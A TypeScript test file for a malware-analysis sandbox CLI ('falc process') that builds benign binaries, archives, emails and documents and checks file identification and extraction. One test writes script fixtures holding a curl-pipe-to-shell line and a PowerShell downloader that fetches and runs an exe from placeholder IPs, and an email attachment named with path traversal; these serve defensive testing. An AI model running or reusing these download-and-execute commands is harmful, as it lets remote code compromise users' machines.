import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { samples, writeOoxml, writePdf, zipWithPassword, type Samples } from "../process/samples.ts";
import { writeMsg } from "../process/msg.ts";
import { writeRar4 } from "../process/rar4.ts";
import { runFalc, tempHome } from "./helpers.ts";

/**
 * `falc process` through the compiled binary on each kind of sample the built-in plugins know, all made
 * here from source (gcc, mingw-w64, zip -P, a PDF and an OOXML package written by the test, scripts).
 * Checked against what the files are, not against the parsers' own output.
 */
let H: { home: string; cleanup(): void };
let S: Samples;
beforeAll(async () => {
  H = tempHome();
  S = await samples();
}, 120_000);
afterAll(() => H.cleanup());

interface Summary {
  analysis_id: string;
  state: string;
  target: { filename: string; filetype: string; media_type: string; sha256: string; extrpath: string[]; container: boolean; platforms: { platform: string }[] };
  paths: { dir: string };
}

async function processAll(files: string[], extra: string[] = []): Promise<Summary[]> {
  const r = await runFalc(["process", ...files, ...extra, "--json"], { env: { FALC_HOME: H.home } });
  expect(r.stderr).not.toMatch(/\n\s+at /); // never a stack trace
  expect(r.code).toBe(0);
  const out = JSON.parse(r.stdout);
  return Array.isArray(out) ? out : [out];
}

const pre = (s: Summary) => JSON.parse(readFileSync(join(s.paths.dir, "pre.json"), "utf8"));
const sha256 = (p: string) => new Bun.CryptoHasher("sha256").update(readFileSync(p)).digest("hex");

describe("falc process on each kind of file", () => {
  test("PE32+, PE32 GUI, a DLL and an ELF: types, platforms and static data", async () => {
    const [pe64, pe32, dll, elf] = await processAll([S.pe64!, S.pe32!, S.dll!, S.elf!]);
    expect(pe64!.target.filetype).toMatch(/^PE32\+ executable \(console\) x86-64/);
    expect(pe32!.target.filetype).toMatch(/^PE32 executable \(GUI\) Intel 80386/);
    expect(dll!.target.filetype).toMatch(/^PE32\+ executable \(DLL\)/);
    expect(elf!.target.filetype).toMatch(/^ELF 64-bit LSB/);
    expect(pe64!.target.platforms.map((p) => p.platform)).toEqual(["windows"]);
    expect(elf!.target.platforms.map((p) => p.platform)).toEqual(["linux"]);
    for (const s of [pe64!, pe32!, dll!, elf!]) expect(s.state).toBe("tasks_pending");
    // The PE's imports name ws2_32 (it calls WSAStartup); the DLL exports what dll.c defines.
    const p64 = pre(pe64!).static.pe;
    expect(p64.pe_imphash).toMatch(/^[0-9a-f]{32}$/);
    expect(p64.pe_imports.map((i: { dll: string }) => i.dll.toLowerCase())).toContain("ws2_32.dll");
    expect(pre(dll!).static.pe.pe_exports.length).toBeGreaterThan(0);
    expect(pre(elf!).static.elf.elf_interpreter).toMatch(/ld-linux/);
  }, 120_000);

  test("a password zip: the exe inside is selected, the text file ignored", async () => {
    const note = join(S.dir, "readme.txt");
    writeFileSync(note, "nothing to see\n");
    const zip = await zipWithPassword(join(S.dir, "mail.zip"), [note, S.pe64!], "infected");
    const [z] = await processAll([zip], ["--password", "infected"]);
    expect(z!.target.container).toBe(false);
    expect(z!.target.extrpath).toEqual(["sample64.exe"]);
    expect(z!.target.filetype).toMatch(/^PE32\+ executable/);
    expect(z!.target.sha256).toBe(sha256(S.pe64!));
    const ident = JSON.parse(readFileSync(join(z!.paths.dir, "identification.json"), "utf8"));
    expect(ident.ignored.map((i: { filename: string }) => i.filename)).toContain("readme.txt");
    // Pre analysed the selected exe, not the archive.
    expect(pre(z!).static.pe.pe_imphash).toMatch(/^[0-9a-f]{32}$/);
  }, 60_000);

  test("libarchive in the compiled binary: AES-256 zip with --password, 7z and tar.gz; pre re-extracts the selected exe", async () => {
    const dir = join(S.dir, "archives");
    Bun.spawnSync(["mkdir", "-p", dir]);
    const aes = join(dir, "aes.zip");
    const seven = join(dir, "x.7z");
    const tgz = join(dir, "x.tar.gz");
    Bun.spawnSync(["rm", "-f", aes, seven, tgz]);
    expect(Bun.spawnSync(["7zz", "a", "-tzip", "-mem=AES256", "-pAesPw", aes, S.pe64!]).exitCode).toBe(0);
    expect(Bun.spawnSync(["7zz", "a", seven, S.pe64!]).exitCode).toBe(0);
    expect(Bun.spawnSync(["bsdtar", "-czf", tgz, "-C", S.dir, "sample64.exe"]).exitCode).toBe(0);
    const out = await processAll([aes, seven, tgz], ["--password", "AesPw"]);
    for (const z of out) {
      expect(z.target).toMatchObject({ filename: "sample64.exe", extrpath: ["sample64.exe"], container: false, sha256: sha256(S.pe64!) });
      expect(pre(z).static.pe.pe_imphash).toMatch(/^[0-9a-f]{32}$/);
    }
  }, 60_000);

  test("mail and rar in the compiled binary: the exe attached to an .eml and an .msg, or stored in a rar, is selected; pre re-extracts it", async () => {
    const exe = readFileSync(S.pe64!);
    const b64 = exe.toString("base64").replace(/.{1,76}/g, "$&\r\n");
    const eml = join(S.dir, "invoice.eml");
    writeFileSync(eml, `From: a@example.test\r\nTo: b@example.test\r\nSubject: invoice\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--m\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="../../invoice.exe"\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64}--m--\r\n`);
    const msg = join(S.dir, "invoice.msg");
    writeFileSync(msg, writeMsg({ subject: "invoice", body: "see attached", attachments: [{ name: "notes.txt", data: Buffer.from("hello\n") }, { name: "счёт.exe", data: exe }] }));
    const rar = join(S.dir, "invoice.rar");
    writeFileSync(rar, writeRar4([{ name: "docs", mtime: 1700000000, host: "windows" }, { name: "docs/invoice.exe", data: exe, mtime: 1700000000, host: "windows" }]));
    const [e, m, r] = await processAll([eml, msg, rar]);
    expect(r!.target.extrpath).toEqual(["docs/invoice.exe"]);
    expect(e!.target.extrpath).toEqual(["../../invoice.exe"]);
    expect(e!.target.filename).toBe("invoice.exe");
    expect(m!.target.extrpath).toEqual(["счёт.exe"]);
    for (const s of [e!, m!, r!]) {
      expect(s.target.filetype).toMatch(/^PE32\+ executable/);
      expect(s.target.sha256).toBe(sha256(S.pe64!));
      expect(pre(s).static.pe.pe_imphash).toMatch(/^[0-9a-f]{32}$/);
    }
    const ident = JSON.parse(readFileSync(join(m!.paths.dir, "identification.json"), "utf8"));
    expect(ident.ignored.map((i: { filename: string }) => i.filename)).toEqual(["notes.txt"]);
  }, 60_000);

  test("a zip with the wrong password: nothing identified, the archive goes on as it is, and the summary says why", async () => {
    const inner = join(S.dir, "inner.sh");
    writeFileSync(inner, "#!/bin/sh\necho hi\n");
    const zip = await zipWithPassword(join(S.dir, "locked.zip"), [inner], "s3cret");
    const [s] = (await processAll([zip], ["--password", "wrong"])) as (Summary & { identified: boolean; ignored: { filename: string; reason: string }[] })[];
    // Cuckoo3 (cancel_unidentified off): an unidentified submission goes on to pre as submitted.
    expect(s!.identified).toBe(false);
    expect(s!.target.container).toBe(true);
    expect(s!.ignored).toEqual([{ filename: "inner.sh", reason: expect.stringMatching(/password/) }]);
    const human = await runFalc(["process", "show", s!.analysis_id], { env: { FALC_HOME: H.home } });
    expect(human.stdout).toMatch(/^identified +no/m);
    expect(human.stdout).toMatch(/^ignored +inner\.sh: .*password/m);
  }, 60_000);

  test("PDF, OOXML (docx, docm), shell and PowerShell scripts, plain text", async () => {
    const files: Record<string, Uint8Array | string> = {
      "doc.pdf": writePdf(),
      "report.docx": writeOoxml("docx"),
      "macro.docm": writeOoxml("docm"),
      "run.sh": "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n",
      "drop.ps1": "$c = New-Object System.Net.WebClient\n$c.DownloadFile('http://203.0.113.8/a.exe', \"$env:TEMP\\a.exe\")\nStart-Process \"$env:TEMP\\a.exe\"\n",
      "notes.txt": "just words here\n",
    };
    const paths = Object.entries(files).map(([name, data]) => {
      const p = join(S.dir, name);
      writeFileSync(p, data);
      return p;
    });
    const [pdf, docx, docm, sh, ps1, txt] = await processAll(paths);
    expect(pdf!.target.media_type).toBe("application/pdf");
    expect(pdf!.target.filetype).toMatch(/^PDF document/);
    expect(docx!.target.media_type).toBe("application/vnd.openxmlformats-officedocument.wordprocessingml.document");
    // Descriptions and media types are libmagic's (it cannot tell docm from docx); falc's own reading
    // still keeps the macro document's name and finds the PowerShell script.
    const file = (p: string, ...o: string[]) => Bun.spawnSync(["file", "-b", ...o, p]).stdout.toString().trim();
    for (const [sum, p] of [[pdf, paths[0]], [docx, paths[1]], [docm, paths[2]], [sh, paths[3]], [ps1, paths[4]], [txt, paths[5]]] as const) {
      expect(sum!.target.media_type).toBe(file(p!, "--mime-type"));
      expect(sum!.target.filetype).toBe(file(p!));
    }
    expect(docm!.target.filename).toBe("macro.docm");
    expect(sh!.target.filetype).toMatch(/shell script/i);
    expect(ps1!.target).toMatchObject({ filename: "drop.ps1", platforms: [{ platform: "windows" }] });
    expect(txt!.target.media_type).toBe("text/plain");
    // The script's URL on a raw address is found by the strings plugin.
    expect(pre(sh!).strings.iocs.urls).toContain("http://203.0.113.7/x");
    expect(pre(pdf!).strings.iocs.urls.some((u: string) => u.startsWith("http://pdf.falc-test.example.net/"))).toBe(true);
  }, 60_000);
});
